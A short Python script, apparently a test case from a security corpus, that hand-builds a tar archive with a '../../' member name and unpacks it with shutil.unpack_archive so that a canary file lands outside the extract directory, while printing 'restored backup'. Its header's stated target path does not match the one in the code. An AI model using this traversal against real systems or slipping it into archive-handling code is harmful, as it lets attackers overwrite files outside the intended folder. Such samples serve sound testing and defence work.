# class: library-mediated | technique: hand-built tar whose member name climbs with ../; shutil.unpack_archive (tarfile, no extraction filter in 3.11.2) writes it outside the extract dir | effect: writes /etc/rt4canary/slip.txt
import os
import shutil


def tar_member(name, data):
    hdr = bytearray(512)

    def put(off, value):
        hdr[off:off + len(value)] = value

    put(0, name.encode())
    put(100, b"0000644\0")
    put(108, b"0000000\0")
    put(116, b"0000000\0")
    put(124, b"%011o\0" % len(data))
    put(136, b"%011o\0" % 0)
    put(148, b" " * 8)
    put(156, b"0")
    put(257, b"ustar\x0000")
    put(148, b"%06o\0 " % sum(hdr))
    return bytes(hdr) + data + b"\0" * (-len(data) % 512)


archive = tar_member("../../etc/rt4canary-slip.txt", b"from the archive\n") + b"\0" * 1024
with open("backup.tar", "wb") as fh:
    fh.write(archive)
os.makedirs("restore", exist_ok=True)
shutil.unpack_archive("backup.tar", "restore")
print("restored backup")
